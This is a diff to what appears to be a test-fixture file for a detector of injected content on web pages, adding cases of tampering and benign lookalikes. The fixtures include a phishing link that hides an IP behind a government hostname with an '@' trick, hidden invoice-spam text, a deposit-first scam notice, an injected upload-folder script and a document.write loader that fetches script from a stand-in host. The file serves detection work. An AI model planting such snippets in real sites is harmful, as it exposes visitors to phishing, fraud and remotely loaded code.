@@ -29,6 +29,14 @@ _LOAD = "var e=document.createElement('script');e.src=%s;document.body.appendChi
 _ROWS = ",".join(str(ord(letter) ^ 77) for letter in ADDRESS)
 _MOVED = "".join(chr(ord(letter) + 1) for letter in ADDRESS)
 TOLD_AT_FIRST = {
+    "own name before an at sign": put("<a href='http://www.yunshan.gov.cn@203.0.113.201/login.html'>用户登录</a>"),
+    "invoices for sale, out of sight": put(
+        "<h1 style='text-indent:-999em;height:0;overflow:hidden'>代开发票_餐饮住宿票加V信fp7788点数优惠</h1>"
+    ),
+    "deposit first": put(
+        "<a href='http://bt.bad.example/'>个人劳动补贴今日截止，加QQ群 7720 扫码，先交保证金后领取</a>"
+    ),
+    "a script that was sent in": put("<script src='/uploads/image/20240417/88417.js'></script>"),
     "links without anything in them": put("".join(f"<a href='http://s{n}.bad.example/'></a>" for n in range(3))),
     "links in a drawing of no size": put(
         "<svg width='0' height='0'><a xlink:href='http://j.bad.example/'><text>九游会</text></a></svg>"
@@ -139,6 +147,7 @@ TOLD_AT_FIRST = {
 }
 """By what was done."""
 TOLD_AGAINST_THE_BASELINE = {
+    "another account, with a dash": put("<p>户名：惠民信息服务有限公司　账号：6230-910188022417735</p>"),
     "a counter that is not the vendor's": script(
         "var p='http://';document.write(unescape(\"%3Cscript src='\""
         '+p+"hm.baidu.com.bad.example/h.js\'%3E%3C/script%3E"))'
@@ -167,6 +176,10 @@ TOLD_AGAINST_THE_BASELINE = {
     "called away": put("<p>合作联系 TG:@boss88</p>"),
 }
 HONEST = {
+    "invoices at the tax office": put("<p>税务局代开发票办事指南</p><a href='/bs/'>个体户代开增值税发票</a>"),
+    "an own script with its day": put(
+        "<script src='/js/20240417/site.js'></script><script src='/upload/js/a.js'></script>"
+    ),
     "links drawn by their class": put(
         "".join(f"<a class='s{n}' href='http://s{n}.shop.example/'></a>" for n in range(4))
     ),
